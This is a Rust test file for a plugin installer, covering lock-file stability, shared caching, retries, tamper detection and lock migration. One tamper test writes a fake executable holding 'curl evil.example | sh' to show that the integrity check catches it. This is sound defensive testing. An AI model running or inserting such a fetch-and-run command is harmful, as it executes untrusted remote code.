//! End-to-end installation scenarios against a stub registry.

mod common;

use std::collections::BTreeSet;
use std::fs;

use common::{StubRegistry, Workdir, archive_path, null, platform, provider_zip};
use futures::future::join_all;
use provman_core::cache::CacheDir;
use provman_core::installer::{InstallMode, Installer};
use provman_core::lockfile::Locks;
use provman_core::manifest::{ProjectManifest, Requirements};
use provman_core::verify::IntegrityVerifier;
use provman_core::{Error, ErrorKind};
use provman_schema::hash::zip_hash_from_hex;
use provman_schema::{ConstraintSet, Hash, ProviderAddress};

fn requirements(constraints: &str) -> Requirements {
    Requirements::from([(null(), ConstraintSet::parse(constraints).unwrap())])
}

#[tokio::test]
async fn second_run_is_offline_and_lock_is_byte_identical() {
    let mut registry = StubRegistry::start().await;
    let release = registry.publish("3.2.0").await;
    let wd = Workdir::new();
    let reqs = requirements("~> 3.0");

    let first = Installer::new(registry.source(0), wd.cache())
        .ensure_provider_versions(&Locks::new(), &reqs, &BTreeSet::new(), InstallMode::Normal)
        .await
        .unwrap();
    assert_eq!(first.fetched, 1);
    first.locks.save(&wd.lock_path()).await.unwrap();
    let saved = fs::read(wd.lock_path()).unwrap();

    let entry = first.locks.provider(&null()).unwrap();
    assert!(entry.contains_hash(&zip_hash_from_hex(&release.shasum)));
    assert!(entry.contains_hash(&first.packages[0].hash().unwrap()));

    // A new run, as a new process would do it.
    let loaded = Locks::load(&wd.lock_path()).await.unwrap();
    let second = Installer::new(registry.source(0), wd.cache())
        .ensure_provider_versions(&loaded, &reqs, &BTreeSet::new(), InstallMode::Normal)
        .await
        .unwrap();
    assert_eq!(second.fetched, 0);
    assert!(second.changes.is_empty());
    second.locks.save(&wd.lock_path()).await.unwrap();
    assert_eq!(fs::read(wd.lock_path()).unwrap(), saved);

    // Exactly one request each, all from the first run.
    release.versions.assert_async().await;
    release.download.assert_async().await;
    release.archive.assert_async().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn concurrent_installers_share_one_cache() {
    let mut registry = StubRegistry::start().await;
    registry.publish("3.2.0").await;
    let shared = Workdir::new();
    let cache_dir = shared.path().join("plugin-cache");
    let reqs = requirements("");

    let installers: Vec<_> = (0..8)
        .map(|_| Installer::new(registry.source(0), CacheDir::shared(&cache_dir, platform())))
        .collect();
    let locks = Locks::new();
    let explicit = BTreeSet::new();
    let outcomes = join_all(installers.iter().map(|installer| {
        installer.ensure_provider_versions(&locks, &reqs, &explicit, InstallMode::Normal)
    }))
    .await;

    let mut h1s = BTreeSet::new();
    for outcome in outcomes {
        let outcome = outcome.unwrap();
        h1s.insert(outcome.packages[0].hash().unwrap());
    }
    assert_eq!(h1s.len(), 1);

    let version_dir = cache_dir.join("registry.opentofu.org/hashicorp/null/3.2.0");
    let mut names: Vec<String> = fs::read_dir(&version_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    assert_eq!(names, vec!["linux_amd64", "linux_amd64.lock"]);

    let cached = CacheDir::new(&cache_dir, platform()).all_available_packages().unwrap();
    assert_eq!(cached[&null()].len(), 1);
    assert_eq!(cached[&null()][0].hash().unwrap(), h1s.into_iter().next().unwrap());
}

#[tokio::test]
async fn failing_download_reports_attempts_made() {
    let mut registry = StubRegistry::start().await;
    registry
        .publish_metadata("3.2.0", &provider_zip("null", "3.2.0"))
        .await;
    let failing = registry
        .server
        .mock("GET", archive_path("3.2.0").as_str())
        .with_status(503)
        .expect(2)
        .create_async()
        .await;
    let wd = Workdir::new();

    let err = Installer::new(registry.source(1), wd.cache())
        .ensure_provider_versions(&Locks::new(), &requirements(""), &BTreeSet::new(), InstallMode::Normal)
        .await
        .unwrap_err();

    failing.assert_async().await;
    assert_eq!(err.kind(), ErrorKind::ExhaustedRetries);
    assert!(err.to_string().contains("giving up after 2 attempt(s)"), "{err}");
    assert!(wd.cache().provider_version(&null(), &"3.2.0".parse().unwrap()).is_none());
}

#[tokio::test]
async fn overwritten_executable_is_caught_before_use() {
    let mut registry = StubRegistry::start().await;
    registry.publish("3.2.0").await;
    let wd = Workdir::new();
    let reqs = requirements("");

    let outcome = Installer::new(registry.source(0), wd.cache())
        .ensure_provider_versions(&Locks::new(), &reqs, &BTreeSet::new(), InstallMode::Normal)
        .await
        .unwrap();
    let cache = wd.cache();
    IntegrityVerifier::new(&outcome.locks, &cache)
        .verify(&reqs)
        .await
        .unwrap();

    let executable = outcome.packages[0].executable.clone().unwrap();
    fs::write(&executable, b"#!/bin/sh\ncurl evil.example | sh\n").unwrap();

    let err = IntegrityVerifier::new(&outcome.locks, &cache)
        .verify(&reqs)
        .await
        .unwrap_err();
    let Error::TamperedPackage { path, .. } = &err else {
        panic!("expected TamperedPackage, got {err}");
    };
    assert_eq!(path, &outcome.packages[0].package_dir);
    assert!(err.remediation().is_some());
}

#[tokio::test]
async fn emptied_lock_file_means_no_version_selected() {
    let wd = Workdir::new();
    fs::write(wd.lock_path(), b"").unwrap();
    fs::write(
        provman_core::requirements_path(&wd.path()),
        "[required_providers.null]\nsource = \"hashicorp/null\"\n",
    )
    .unwrap();

    let locks = Locks::load(&wd.lock_path()).await.unwrap();
    let reqs = ProjectManifest::load(&provman_core::requirements_path(&wd.path()))
        .await
        .unwrap()
        .requirements()
        .unwrap();
    let cache = wd.cache();
    let err = IntegrityVerifier::new(&locks, &cache)
        .verify(&reqs)
        .await
        .unwrap_err();

    assert_eq!(err.kind().as_str(), "no_version_selected");
    assert!(err.to_string().contains("registry.opentofu.org/hashicorp/null"));
}

#[tokio::test]
async fn predecessor_entry_is_migrated_with_fresh_hashes() {
    let mut registry = StubRegistry::start().await;
    let release = registry.publish("3.2.0").await;
    let wd = Workdir::new();
    fs::write(
        wd.lock_path(),
        r#"version = 1

[[provider]]
source = "registry.terraform.io/hashicorp/null"
version = "3.2.0"
hashes = [
  "h1:predecessor=",
  "zh:0000000000000000000000000000000000000000000000000000000000000000",
]
"#,
    )
    .unwrap();
    let locks = Locks::load(&wd.lock_path()).await.unwrap();
    let manifest = ProjectManifest::parse("[required_providers.null]\nsource = \"hashicorp/null\"\n").unwrap();

    let outcome = Installer::new(registry.source(0), wd.cache())
        .ensure_provider_versions(
            &locks,
            &manifest.requirements().unwrap(),
            &manifest.explicit_references(),
            InstallMode::Normal,
        )
        .await
        .unwrap();

    let predecessor: ProviderAddress = "registry.terraform.io/hashicorp/null".parse().unwrap();
    assert!(outcome.locks.provider(&predecessor).is_none());
    let entry = outcome.locks.provider(&null()).unwrap();
    assert_eq!(entry.version().to_string(), "3.2.0");
    assert!(entry.contains_hash(&zip_hash_from_hex(&release.shasum)));
    assert!(!entry.contains_hash(&Hash::parse("h1:predecessor=").unwrap()));
    assert_eq!(outcome.notes.len(), 1);
    assert!(outcome.notes[0].to_string().starts_with("migrated"));
}
